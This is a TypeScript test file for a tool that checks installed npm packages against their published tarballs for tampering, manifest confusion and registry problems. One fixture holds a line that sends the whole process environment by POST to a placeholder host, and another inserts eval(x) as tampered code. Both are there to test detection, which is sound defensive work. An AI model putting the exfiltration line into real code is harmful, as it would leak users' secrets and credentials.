import { expect, it } from 'vitest';
import { detect as detectAll, type PublishedPackages } from '../../../src/detectors/index.js';
import { takeInventory } from '../../../src/inventory/index.js';
import { defaultSignatures } from '../../../src/signatures/index.js';
import { memoryTree } from '../../support/memory-tree.js';
import { packageOf } from '../../support/model-builders.js';
import {
  CODE,
  detect,
  foundWith,
  installedAs,
  manifest,
  MINIFIED,
  publishing,
  TARBALL,
  type Files,
} from '../../support/published-sample.js';

it.each([
  ['another name', { name: 'slower' }, 'high'],
  ['another version', { version: '1.0.1' }, 'high'],
  ['an unlisted install script', { scripts: { install: 'node x.js' } }, 'high'],
  ['an unlisted dependency', { dependencies: { a: '^1.0.0', hidden: '1' } }, 'medium'],
  ['an unlisted command', { bin: { slow: 'cli.js', more: 'cli.js' } }, 'medium'],
])('a registry that lists something else is found: %s', async (_case, fields, severity) => {
  const tarball = { ...TARBALL, ...manifest(fields) };
  expect(await foundWith({}, { tarball })).toEqual([`manifest-confusion ${severity}`]);
});

it('a wrong signature is found', async () => {
  expect(await foundWith({}, { listed: { signature: 'invalid' } })).toEqual(['registry-signature high']);
});

it('a package has one finding, which names the worst edit, with a short diff', async () => {
  const edits = {
    'index.js': CODE.replace('counter.value', 'counter.value + 1'),
    ...manifest({ dependencies: { b: '1' } }),
  };
  const { findings } = await detect(installedAs({ ...TARBALL, ...edits }), publishing(TARBALL, {}));
  expect(findings).toHaveLength(1);
  expect(findings[0]?.title).toBe('slow 1.0.0 is not as published: index.js is changed, and 1 more');
  expect(findings[0]?.evidence.slice(0, 2)).toEqual([
    { path: 'node_modules/slow/index.js', line: 7, detail: '-   return counter.value;' },
    { path: 'node_modules/slow/index.js', line: 7, detail: '+   return counter.value + 1;' },
  ]);
});

it('a bundled package is compared with its copy in the published tarball', async () => {
  const inner = 'node_modules/inner';
  const tarball = {
    ...TARBALL,
    [`${inner}/package.json`]: '{}',
    [`${inner}/index.js`]: 'module.exports = 1;\n',
  };
  const bundled = packageOf('inner', '2.0.0', {
    vendoredIn: 'npm:node_modules/slow',
    locations: [{ path: `node_modules/slow/${inner}` }],
  });
  const packages = [packageOf('slow', '1.0.0'), bundled];
  expect(await foundWith({}, { tarball, packages })).toEqual([]);
  expect(await foundWith({ [`${inner}/index.js`]: 'eval(x)\n' }, { tarball, packages })).toEqual([
    'tampered-code high',
  ]);
});

it('a package that no registry knows is found', async () => {
  const published: PublishedPackages = {
    ...publishing(TARBALL, {}),
    find: () => Promise.resolve({ state: 'unknown', what: 'version' }),
  };
  const { findings } = await detect(installedAs(TARBALL), published);
  expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([['unknown-to-registry', 'medium']]);
});

it('a private package is never requested, nor one that may be private', async () => {
  const asked: string[] = [];
  const published: PublishedPackages = {
    ...publishing(TARBALL, {}),
    mayRequest: (name, _version, locked) => locked.has(`https://packages.example.invalid/${name}.tgz`),
    find: (name) => {
      asked.push(name);
      return Promise.resolve({ state: 'unknown', what: 'name' });
    },
  };
  const packages = [
    packageOf('ours', '1.0.0', { origin: 'private' }),
    packageOf('maybe', '1.0.0'),
    packageOf('known', '1.0.0'),
  ];
  const artifact = {
    ...(Object.assign(
      {},
      ...packages.map(({ name }) => installedAs(TARBALL, `node_modules/${name}`)),
    ) as Files),
    'node_modules/.package-lock.json': '{"resolved": "https://packages.example.invalid/known.tgz"}',
  };
  const { problems } = await detect(artifact, published, packages);
  expect(asked).toEqual(['known']);
  expect(problems.map(({ message }) => message)).toEqual([
    expect.stringContaining('1 of 2 packages: known@1.0.0') as string,
    expect.stringContaining('1 of 2 packages: maybe@1.0.0') as string,
  ]);
});

it('packages that could not be compared are reported once for each reason, and make the answer incomplete', async () => {
  const published: PublishedPackages = {
    ...publishing(TARBALL, {}),
    find: () => Promise.resolve({ state: 'unavailable', reason: 'the registry is out of reach' }),
  };
  const packages = ['a', 'b', 'c'].map((name) => packageOf(name, '1.0.0'));
  const artifact = Object.assign(
    {},
    ...packages.map(({ name }) => installedAs(TARBALL, `node_modules/${name}`)),
  ) as Files;
  const { findings, problems } = await detect(artifact, published, packages);
  expect(findings).toEqual([]);
  expect(problems).toEqual([
    {
      code: 'unresolved',
      path: '',
      message:
        'Not compared with what was published (3 of 3 packages: a@1.0.0, b@1.0.0, c@1.0.0): the registry is out of reach.',
      affectsCompleteness: true,
    },
  ]);
});

it('reports when files were compared by their words only', async () => {
  const { problems } = await detect(
    installedAs({ ...TARBALL, 'index.js': MINIFIED }),
    publishing(TARBALL, {}),
  );
  expect(problems.map(({ message }) => message)).toEqual([expect.stringContaining('minified') as string]);
});

it('does nothing unless published packages are given', async () => {
  expect(await detect(installedAs({ 'index.js': 'x' }), null)).toMatchObject({ findings: [], problems: [] });
});

it.each([
  ['removed where all its files are the published ones', {}, []],
  [
    'kept where a file differs',
    { 'index.js': CODE.replace('counter.value', 'counter.value + 1') },
    ['code/environment-sent low', 'tampered-code high'],
  ],
])('a doubt about a package that rules except by its name is %s', async (_case, edits, expected) => {
  const sends =
    "const d = JSON.stringify(process.env); const r = https.request({ host: 'c.example.invalid', method: 'POST' }); r.end(d);\n";
  const tarball = {
    'package.json': '{"name":"debug","version":"1.0.0"}',
    'index.js': CODE,
    'send.js': sends,
  };
  const tree = memoryTree(installedAs({ ...tarball, ...edits }, 'node_modules/debug'));
  const inventory = await takeInventory({ tree, problems: [], image: null });
  const published = publishing(tarball, { dependencies: new Map(), bin: [] });
  const { findings } = await detectAll({ tree, inventory, published, signatures: defaultSignatures() });
  expect(findings.map(({ rule, severity }) => `${rule} ${severity}`).sort()).toEqual(expected);
});
